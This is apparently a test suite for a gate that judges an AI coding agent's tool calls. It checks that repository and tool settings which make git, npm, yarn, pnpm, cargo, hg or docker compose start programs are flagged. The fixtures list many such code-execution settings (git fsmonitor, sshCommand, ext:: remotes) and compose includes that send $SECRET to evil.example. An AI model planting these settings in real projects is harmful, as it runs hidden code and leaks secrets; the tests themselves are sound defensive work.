import { execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { beforeEach, expect, test } from "vitest";
import { pathFacts } from "../../src/config/paths/path-facts.ts";
import type { ToolCall } from "../../src/core/call.ts";
import { classify, namedPaths, namedSettings } from "../../src/core/classify/classify.ts";
import { changedSince, withFacts } from "../../src/core/classify/facts.ts";
import { NOTHING_DECLARED } from "../../src/core/classify/known-tool.ts";
import { readCall } from "../../src/core/classify/reading.ts";
import type { Effect } from "../../src/core/effect.ts";
import type { AgentName, WorkspaceId } from "../../src/core/ids.ts";
import type { Message } from "../../src/core/messages/message.ts";
import type { JsonObject } from "../../src/core/values/json.ts";

// Real programs in real folders: what they start because of the settings there, and what the gate says about it before.

let root: string;
let project: string;
let canary: string;
let evil: string;

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "leeway-settings-")));
  project = join(root, "project");
  canary = join(root, "started");
  evil = put("../evil", `#!/bin/sh\necho "$0 $*" >> ${canary}\nexit 0\n`);
  git(root, "init", "-q", project);
  put("a.txt", "one\n");
  put("b.txt", "one\n");
  git(project, "add", ".");
  git(project, "commit", "-qm", "first");
  return () => rmSync(root, { recursive: true, force: true });
});

function put(path: string, text: string): string {
  const file = join(project ?? root, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
  if (text.startsWith("#!")) chmodSync(file, 0o755);
  return file;
}

const ENV = {
  PATH: process.env.PATH ?? "",
  HOME: "/nonexistent",
  GIT_CONFIG_GLOBAL: "/dev/null",
  GIT_CONFIG_SYSTEM: "/dev/null",
  GIT_AUTHOR_NAME: "Ana",
  GIT_AUTHOR_EMAIL: "ana@example.com",
  GIT_COMMITTER_NAME: "Ana",
  GIT_COMMITTER_EMAIL: "ana@example.com",
};

function git(cwd: string, ...words: readonly string[]): void {
  execFileSync("git", ["-c", "protocol.file.allow=always", ...words], { cwd, env: ENV, stdio: "pipe" });
}

/** What a command starts besides itself, when it really runs. */
function starts(command: string): boolean {
  rmSync(canary, { force: true });
  try {
    execFileSync("/bin/bash", ["-c", command], { cwd: project, env: ENV, stdio: "pipe", timeout: 20_000 });
  } catch {
    // Many of these fail because their program prints nothing; it only matters that it was started.
  }
  return existsSync(canary);
}

function callOf(tool: string, args: JsonObject): ToolCall {
  const names = { workspace: "default" as WorkspaceId, agent: "coder" as AgentName };
  return { ...names, tool, args, cwd: project, callId: "c", traceId: "t", chain: [], claims: {} };
}

/** What the gate says about a call in the project, with the real disk. */
function effectOf(call: ToolCall): Effect<Message> {
  const door = pathFacts("/home/ana");
  const reading = readCall(call);
  const facts = door.about([project, ...namedPaths(reading)], project);
  const settings = door.settings(namedSettings(reading, project), project);
  return classify(reading, { declared: NOTHING_DECLARED, project, facts: { ...facts, settings } });
}

const understood = (command: string) => effectOf(callOf("Bash", { command })).understood;

/** Settings that make git start a program, each with a command that does so. */
const HOSTILE: readonly (readonly [setting: string, command: string])[] = [
  ["[core]\n\tfsmonitor = EVIL\n", "git status"],
  ["[core]\n\tfsmonitor = EVIL\n", "git diff"],
  ["[core]\n\tfsmonitor = EVIL\n", "git ls-files --modified"],
  ["[CORE]\n\tfsMonitor = EVIL\n", "git status"],
  ["[core] fsmonitor = EVIL\n", "git status"],
  ['[core]\n\tfsmonitor = "EVIL"\n', "git status"],
  ["[core]\n\tfsmonitor = \\\nEVIL\n", "git status"],
  ["[diff]\n\texternal = EVIL\n", "git diff HEAD -- a.txt"],
  ['[diff "x"]\n\ttextconv = EVIL\n', "git diff HEAD -- a.txt"],
  ['[diff "x"]\n\tcommand = EVIL\n', "git diff HEAD -- a.txt"],
  ['[filter "x"]\n\tclean = EVIL\n', "git status"],
  ['[filter "x"]\n\tprocess = EVIL\n', "git diff"],
  ["[core]\n\thooksPath = hostile-hooks\n", "git status"],
  ["[include]\n\tpath = more\n", "git status"],
  ['[remote "origin"]\n\turl = ext::EVIL\n[protocol "ext"]\n\tallow = always\n', "git ls-remote"],
  ['[core]\n\tsshCommand = EVIL\n[remote "origin"]\n\turl = ssh://localhost/x\n', "git ls-remote"],
  ['[core]\n\tgitProxy = EVIL\n[remote "origin"]\n\turl = git://localhost/x\n', "git fetch"],
  ['[remote "origin"]\n\turl = .\n\tuploadpack = EVIL\n', "git fetch"],
  ['[man]\n\tviewer = x\n[man "x"]\n\tcmd = EVIL\n', "git help log"],
  ['[man]\n\tviewer = x\n[man "x"]\n\tcmd = EVIL\n', "git log --help"],
];

function makeHostile(folder: string, setting: string): void {
  const at = (name: string) => join(folder, name);
  execFileSync("/bin/sh", ["-c", `cat >> '${at(".git/config")}'`], { input: setting.replaceAll("EVIL", evil) });
  writeFileSync(at(".git/more"), `[core]\n\tfsmonitor = ${evil}\n`);
  writeFileSync(at(".git/info/attributes"), "a.txt diff=x filter=x\n");
  mkdirSync(at("hostile-hooks"), { recursive: true });
  writeFileSync(at("hostile-hooks/post-index-change"), `#!/bin/sh\ntouch ${canary}\n`);
  chmodSync(at("hostile-hooks/post-index-change"), 0o755);
  writeFileSync(at("a.txt"), "two\n");
  // Because of this time, git must read the file, and then records that it is unchanged.
  if (existsSync(at("b.txt"))) utimesSync(at("b.txt"), 1, 1);
}

test.each(HOSTILE)("a setting %j that makes git start a program at %s causes a question", (setting, command) => {
  expect(understood(command)).toBe("fully");
  makeHostile(project, setting);
  expect([starts(command), understood(command)]).toEqual([true, "partly"]);
});

/** Ways to reach a repository in `build/x` of the project. */
const REACHING = [
  "git -C build/x status",
  "git -C build -C x diff",
  "cd build/x && git status",
  "cd build; cd x; git status",
  "(cd build/x && git log -1 && git status)",
  "pushd build/x && git status",
  "git -C ./build/../build/x status",
  "env git -C build/x status",
  "bash -c 'cd build/x && git status'",
  "git --git-dir=build/x/.git --work-tree=build/x status",
  "GIT_DIR=build/x/.git GIT_WORK_TREE=build/x git status",
  "export GIT_DIR=build/x/.git; git status",
  "find build/x -maxdepth 0 -execdir git -C x status ';'",
  "git -C build/x/deep/er status",
  "git -C link status",
];

test.each(REACHING)("a repository inside the project with its own settings causes a question: %s", (command) => {
  nested("build/x");
  execFileSync("ln", ["-s", "build/x", "link"], { cwd: project });
  const was = understood("git -C build/x status");
  makeHostile(join(project, "build/x"), "[core]\n\tfsmonitor = EVIL\n");
  expect([was, starts(command), understood(command)]).toEqual(["fully", true, "partly"]);
});

function nested(path: string): string {
  const folder = join(project, path);
  mkdirSync(join(folder, "deep/er"), { recursive: true });
  git(folder, "init", "-q");
  writeFileSync(join(folder, "a.txt"), "one\n");
  git(folder, "add", ".");
  git(folder, "commit", "-qm", "first");
  return folder;
}

test("a repository without a .git folder, a .git file and a submodule are checked", () => {
  git(project, "clone", "-q", "--bare", project, join(project, "build/bare"));
  expect(understood("git -C build/bare log")).toBe("fully");
  writeFileSync(join(project, "build/bare/config"), `[core]\n\tbare = true\n\tsshCommand = ${evil}\n`);
  const asks = "git -C build/bare ls-remote ssh://localhost/x";
  expect([starts(asks), understood(asks)]).toEqual([true, "partly"]);

  nested("build/x");
  put("build/y/.git", "gitdir: ../x/.git\n");
  put("build/y/a.txt", "one\n");
  expect(understood("git -C build/y status")).toBe("fully");
  makeHostile(join(project, "build/x"), "[core]\n\tfsmonitor = EVIL\n");
  expect([starts("git -C build/y status"), understood("git -C build/y status")]).toEqual([true, "partly"]);
});

test("in a submodule, git uses the settings of the submodule", () => {
  nested("../other");
  git(project, "submodule", "-q", "add", join(root, "other"), "sub");
  expect(understood("git status")).toBe("fully");
  writeFileSync(join(project, "sub/a.txt"), "two\n");
  const config = join(project, ".git/modules/sub/config");
  execFileSync("/bin/sh", ["-c", `cat >> '${config}'`], { input: `[core]\n\tfsmonitor = ${evil}\n` });
  expect([starts("git status"), understood("git status")]).toEqual([true, "partly"]);
});

test("the usual settings that git, its hosts and editors write cause no question", () => {
  const usual = [
    '[remote "origin"]\n\turl = git@github.com:ana/shop.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n\tgh-resolved = base',
    '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n\tvscode-merge-base = origin/main',
    '[submodule "lib"]\n\tactive = true\n\turl = https://example.com/lib.git',
    "[user]\n\tname = Ana # at work\n\temail = ana@example.com\n[pull]\n\trebase = true\n[core]\n\tautocrlf = input\n\tfsmonitor = true",
    '[filter "lfs"]\n\tprocess = git-lfs filter-process\n\trequired = true\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f',
    "[core]\n\thooksPath = .husky/_\n[alias]\n\tst = status\n[gc]\n\tauto = 256\n[extensions]\n\tworktreeConfig = true",
  ];
  execFileSync("/bin/sh", ["-c", "cat >> .git/config"], { cwd: project, input: `${usual.join("\n")}\n` });
  put(".husky/_/pre-commit", "#!/bin/sh\nexit 0\n");
  const everyday = ["git status", "git log --oneline -5", "git diff --stat", "git -C . show HEAD", "git branch -a"];
  expect(everyday.filter((command) => understood(command) !== "fully")).toEqual([]);
});

test("another worktree of the same repository uses the settings of that repository", () => {
  git(project, "worktree", "add", "-q", join(root, "tree"));
  const here = project;
  project = join(root, "tree");
  expect(understood("git status")).toBe("fully");
  execFileSync("/bin/sh", ["-c", `cat >> ${here}/.git/config`], { input: `[core]\n\tfsmonitor = ${evil}\n` });
  expect([starts("git status"), understood("git status")]).toEqual([true, "partly"]);
});

test("a tool call in a repository is checked like the command", () => {
  nested("build/x");
  const status = () => effectOf(callOf("mcp__git__git_status", { repo_path: "build/x" })).understood;
  expect(status()).toBe("fully");
  makeHostile(join(project, "build/x"), "[core]\n\tfsmonitor = EVIL\n");
  expect(status()).toBe("partly");
  const shown = effectOf(callOf("mcp__git__git_show", { repo_path: ".", revision: "HEAD:.env" }));
  expect(shown.parts.map((part) => part.class)).toContain("secrets.read");
});

/** Programs on this machine that follow settings, if they are installed. */
const installed = (program: string) => {
  try {
    execFileSync(program, ["--version"], { stdio: "pipe" });
    return true;
  } catch {
    return false;
  }
};

test.skipIf(!installed("cargo"))(
  "cargo and rustup cause a question if the project names programs for them to start",
  () => {
    put("Cargo.toml", '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n');
    put("src/lib.rs", "");
    put(".cargo/config.toml", "[net]\nretry = 2\n[build]\njobs = 4\n");
    put("rust-toolchain.toml", '[toolchain]\nchannel = "stable"\n');
    const commands = ["cargo tree", "cargo metadata --format-version 1", "cargo --version", "rustc --version"];
    expect(commands.map(understood)).toEqual(["fully", "fully", "fully", "fully"]);
    put(".cargo/config.toml", `[build]\nrustc = "${evil}"\n`);
    expect(understood("cargo tree")).toBe("partly");
    put(".cargo/config.toml", `[build]\njobs = """\n[term]\n"""\nrustc = "${evil}"\n`);
    expect(understood("cargo metadata --format-version 1")).toBe("partly");
    put(".cargo/config.toml", "");
    put("rust-toolchain.toml", `[toolchain]\npath = "${root}"\n`);
    expect(commands.map(understood)).toEqual(["partly", "partly", "partly", "partly"]);
  },
);

test("other tools cause a question only if a file in the folder makes them start something", () => {
  const plainly: readonly (readonly [file: string, text: string, command: string])[] = [
    [".npmrc", "save-exact=true\n@ana:registry=https://npm.example.com/\n", "npm ls"],
    ["go.mod", "module a\n\ngo 1.22\n\ntoolchain go1.22.3\n", "go list ./..."],
    ["global.json", '{ "sdk": { "version": "8.0.100" } }\n', "dotnet --version"],
    ["tsconfig.json", '{ "compilerOptions": { "outDir": "dist", "incremental": true } }\n', "tsc --noEmit"],
    ["main.tf", "", "terraform validate"],
    ["main.tf", "", "terraform output"],
    ["go.mod", "module a\n\ngo 1.22\n", "go vet ./..."],
    ["pnpm-workspace.yaml", "packages:\n  - 'packages/*'\nonlyBuiltDependencies:\n  - esbuild\n", "pnpm ls -r"],
    ["package.json", '{ "name": "a", "packageManager": "pnpm@9.1.0" }\n', "pnpm outdated"],
    [".yarnrc.yml", "nodeLinker: node-modules\nenableTelemetry: false\n", "yarn why react"],
    [".yarnrc", 'save-prefix ""\n', "yarn info react"],
    [".hg/hgrc", "[paths]\ndefault = https://hg.example.com/a\n", "hg status"],
  ];
  for (const [file, text] of plainly) put(file, text);
  expect(plainly.filter(([, , command]) => understood(command) !== "fully")).toEqual([]);
  const hostile: readonly (readonly [file: string, text: string, command: string])[] = [
    [".npmrc", "script-shell=./evil\n", "npm ls"],
    [".npmrc", "git=./evil\n", "npm view a"],
    ["go.mod", "module a\n\ntoolchain evil\n", "go list ./..."],
    ["global.json", '{ "sdk": { "paths": ["./evil"] } }\n', "dotnet --version"],
    ["tsconfig.json", '{ "compilerOptions": { "tsBuildInfoFile": "../../.bashrc" } }\n', "tsc --noEmit"],
    ["tsconfig.json", '{ "extends": "./missing.json" }\n', "tsc --noEmit"],
    ["sub/tsconfig.json", '{ "compilerOptions": { "outDir": "/etc" } }\n', "tsc --noEmit -p sub"],
    [".terraform/providers/x", "", "terraform validate"],
    [".terraform/providers/x", "", "terraform output"],
    ["go.mod", "module a\n\ntoolchain evil\n", "go vet ./..."],
    ["pnpm-workspace.yaml", "packages:\n  - a\npnpmfile: ./evil.cjs\n", "pnpm ls"],
    ["pnpm-workspace.yaml", "configDependencies:\n  - evil\n", "pnpm view a"],
    ["pnpm-workspace.yaml", "", "pnpm -C ../a ls"],
    ["package.json", '{ "pnpm": { "configDependencies": { "evil": "1" } } }\n', "pnpm why a"],
    ["package.json", '{ "pnpm": { "config\\u0044ependencies": { "evil": "1" } } }\n', "pnpm why a"],
    [".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs\n", "yarn why a"],
    [".yarnrc.yml", "plugins:\n  - ./evil.cjs\n", "yarn bin"],
    [".yarnrc.yml", "", "yarn --cwd ../a why b"],
    [".yarnrc", 'yarn-path "./evil.js"\n', "yarn info a"],
    [".npmrc", "pnpmfile=./evil.cjs\n", "pnpm root"],
    [".pnpmfile.cjs", "", "pnpm root"],
    [".pnp.cjs", "", "yarn bin"],
    [".hg/hgrc", "[hooks]\npre-status = ./evil\n", "hg status"],
    [".jj/repo/config.toml", '[ui]\npager = "./evil"\n', "jj log"],
  ];
  expect(
    hostile.filter(([file, text, command]) => {
      put(file, text);
      return understood(command) !== "partly";
    }),
  ).toEqual([]);
});

test("compose runs without a question only if its files load nothing from another machine or another folder", () => {
  put("compose.yaml", "services:\n  a:\n    image: a\n    environment:\n      - URL=https://a.example/$X\n");
  put(".env", "COMPOSE_PROJECT_NAME=a\nURL=https://a.example\n");
  put("sub/a.txt", "");
  const commands = ["docker compose ps", "cd sub && docker compose logs -f a", "docker-compose ps"];
  const all = (kind: string) => commands.map(() => kind);
  expect(commands.map(understood)).toEqual(all("fully"));
  put("compose.yaml", "include:\n  - db.yaml\n  - ./cache.yaml\nservices: {}\n");
  expect(commands.map(understood)).toEqual(all("fully"));
  const hostile: readonly (readonly [file: string, text: string])[] = [
    ["compose.yaml", "include:\n  - oci://evil.example/x\n"],
    ["compose.yaml", "services: {}\ninclude:\n# a\n\n- db.yaml\n-  path: https://evil.example/$SECRET.git\n"],
    ["compose.yaml", '{"services":{},"include":["git@evil.example:a/b"]}'],
    ["compose.yaml", "include: *a\n"],
    ["compose.yaml", "include:\n  - deep/db.yaml\n"],
    ["compose.yaml", "include:\n  - ../db.yaml\n"],
    ["compose.yaml", "? include\n: [oci://evil.example/x]\n"],
    ["compose.yaml", '"\\x69nclude":\n  - oci://evil.example/x\n'],
    ["compose.yaml", `include:\n${"  # nothing\n".repeat(600)}  - oci://evil.example/x\n`],
    ["compose.yaml", "services:\n  a:\n    extends:\n      file: https://evil.example/$SECRET.git\n"],
    ["docker-compose.dev.yml", "include:\n  - oci://evil.example/x\n"],
    [".env", "COMPOSE_FILE=oci://evil.example/x\n"],
  ];
  for (const [file, text] of hostile) {
    put("compose.yaml", "services: {}\n");
    put(file, text);
    expect([text, commands.map(understood)]).toEqual([text, all("partly")]);
    put(file, "");
  }
  put("deep/any.yaml", "include:\n  - oci://evil.example/x\n");
  expect(understood("docker compose -f deep/any.yaml ps")).toBe("partly");
  expect(understood("docker compose -f oci://evil.example/x ps")).toBe("partly");
});

test("a copied folder is checked, and so is a folder that the same command moves before git works there", () => {
  put("templates/a/b.txt", "one\n");
  expect(understood("cp -r templates/a examples")).toBe("fully");
  expect(understood("mv templates/a templates/b && git status")).toBe("fully");
  nested("templates/a/deep/x");
  expect(understood("cp -r templates/a examples")).toBe("partly");
  expect(understood("cp -R .git/. x")).toBe("partly");
  expect(understood("mv templates/a templates/b && git -C templates/b/deep/x status")).toBe("partly");
  mkdirSync(join(project, "empty"));
  expect(understood("mv -T templates/a empty && git -C empty status")).toBe("partly");
  expect(understood("ln -sfn templates/a/deep/x empty && git -C empty status")).toBe("partly");
});

test("unpacked, cloned or checked-out content is only partly understood, at any depth", () => {
  const bringing = [
    "tar -xf a.tar -C build",
    "tar xf a.tar -C build/deep/er src",
    "unzip -q a.zip -d out",
    "git clone -q https://example.com/x.git build/x && git -C build/x status",
    "git checkout topic && cargo tree",
    "git pull && go list ./...",
    "git stash pop; npm ls",
    "git worktree add ../x topic && git -C ../x status",
    "git submodule update --init && git status",
    "git restore --source=topic . && cargo --version",
  ];
  expect(bringing.filter((command) => understood(command) !== "partly")).toEqual([]);
  expect(understood("git checkout topic")).toBe("fully");
});

test("an approval is valid only while the settings stay unchanged, even harmless ones", () => {
  const approved = boundTo("git commit -m x");
  expect(changedSince(approved, boundTo("git commit -m x"))).toBeUndefined();
  git(project, "config", "color.ui", "never");
  expect(changedSince(approved, boundTo("git commit -m x"))).toContain(".git/config is not what it was");
});

/** One instance: its hashes depend on its own key. */
const sameDoor = pathFacts("/home/ana");

function boundTo(command: string): Effect {
  const call = callOf("Bash", { command });
  const found = sameDoor.settings(namedSettings(readCall(call), project), project);
  return withFacts(
    effectOf(call),
    Object.values(found).flatMap(({ facts }) => facts),
  );
}

test("a file is protected under every name by which programs find it", () => {
  put("docs/agents.md", "# a\n");
  put("ci/workflows/a.yml", "on: push\n");
  execFileSync("ln", ["-s", "docs/agents.md", join(project, "CLAUDE.md")]);
  execFileSync("ln", ["-s", "ci", join(project, ".github")]);
  execFileSync("ln", ["-s", ".", join(project, "here")]);
  put("shared/gitconfig", "[user]\n\tname = Ana\n");
  git(project, "config", "include.path", "../shared/gitconfig");
  git(project, "config", "core.attributesFile", "shared/attributes");
  git(project, "config", "core.hooksPath", "shared/checks");
  git(root, "init", "-q", "--bare", join(project, "store"));
  const classOf = (path: string) => effectOf(callOf("Write", { file_path: path, content: "a" })).parts[0].class;
  const obeyed = [
    "docs/agents.md",
    "ci/workflows/a.yml",
    "shared/gitconfig",
    "shared/attributes",
    "shared/checks/lib.sh",
  ];
  const kept = ["store/config", "store/info/attributes"];
  expect([...obeyed, ...kept].filter((path) => !/^(permissions|deploy)\./.test(classOf(path)))).toEqual([]);
  expect(["docs/other.md", "shared/a.txt", "src/config", "a.txt"].map(classOf)).toEqual(Array(4).fill("fs.write"));
});

/** Programs that follow the settings of their folder even if they only print their version or help. */
const TELLING: readonly (readonly [file: string, mild: string, hostile: string, command: string])[] = [
  ["ansible.cfg", "[defaults]\ninventory = hosts\n", "[defaults]\ncowpath = ./evil\n", "ansible --version"],
  ["ansible.cfg", "[defaults]\nforks = 5\n", "[defaults]\ncowpath = ./evil\n", "ansible-doc --help"],
  [".hg/hgrc", "[ui]\nusername = Ana\n", "[extensions]\nx = ./evil.py\n", "hg --version"],
  [".hg/hgrc", "[paths]\ndefault = https://example.com/a\n", "[extensions]\nx = ./evil.py\n", "hg commit --help"],
  [".pdm-plugins/a.py", "", "1\n", "pdm --version"],
  ["serverless.ts", "", "1\n", "sls --help"],
];

test.each(TELLING)(
  "the content of %s decides whether a read-only program causes a question: %j, %j, %s",
  (file, mild, hostile, command) => {
    if (mild !== "") put(file, mild);
    expect(understood(command)).toBe("fully");
    put(file, hostile);
    expect(understood(command)).toBe("partly");
  },
);
